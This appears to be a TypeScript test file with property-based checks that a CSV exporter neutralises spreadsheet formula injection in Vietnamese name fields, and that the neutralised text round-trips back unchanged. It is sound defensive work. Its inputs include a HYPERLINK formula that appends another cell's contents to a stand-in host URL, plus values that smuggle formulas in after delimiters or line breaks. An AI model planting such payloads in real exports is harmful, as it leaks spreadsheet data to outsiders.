import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { writeCsv } from '../../../activities/exports/write-csv.ts';
import { type Delimiter, parseDelimited } from '../../../domain/entry/delimited.ts';
import { asTyped, neutralised } from '../../../domain/text/formula.ts';

describe('a text that a spreadsheet would run (EX11)', () => {
  it.each([
    '=HYPERLINK("http://example.invalid/?"&C2,"Bảo")',
    '+84 Bảo',
    '-Đức',
    '- Em tiến bộ',
    '@SUM(1+1)',
    '\tTab trước',
    '  =1+1',
    '\u00A0=1+1',
    '\uFF1D1+1',
    "'=1",
  ])('%j gets an apostrophe in front, and comes back as it was', (text) => {
    expect(neutralised(text)).toBe(`'${text}`);
    expect(asTyped(neutralised(text))).toBe(text);
  });

  it.each(['', 'Nguyễn Văn An', '9', "'", "'An'", "D'Arcy", 'a=b', 'Em - tiến bộ', '049307000001', "''An"])(
    '%j stays as it is, there and back',
    (text) => {
      expect(neutralised(text)).toBe(text);
      expect(asTyped(text)).toBe(text);
    },
  );

  it.each<[string, string]>([
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
    ['Bảo;=1+1;An', "Bảo;'=1+1;An"],
    ['Em ngoan.\n- Em tiến bộ', "Em ngoan.\n'- Em tiến bộ"],
    ["a\t '=1", "a\t' '=1"],
  ])('%j gets an apostrophe where a cell might begin, and comes back as it was', (text, safe) => {
    expect(neutralised(text)).toBe(safe);
    expect(asTyped(safe)).toBe(text);
  });

  const texts = fc.string({ unit: fc.constantFrom(...'=+-@;,\t\r\n\'" a1') });
  it('comes back as it was, whatever it is', () => {
    fc.assert(fc.property(texts, (text) => asTyped(neutralised(text)) === text));
  });

  it('runs in no cell, by whatever sign a spreadsheet parts the file', () => {
    const cells = fc.array(fc.array(texts, { minLength: 1, maxLength: 3 }), { minLength: 1, maxLength: 3 });
    fc.assert(
      fc.property(cells, fc.constantFrom<Delimiter>(',', ';', '\t'), (rows, delimiter) => {
        const text = Buffer.from(writeCsv(rows)).toString('utf8').slice(1);
        return parseDelimited(text, delimiter)
          .flat()
          .every((cell) => !/^\s*[=+\-@]/.test(cell));
      }),
    );
  });
});
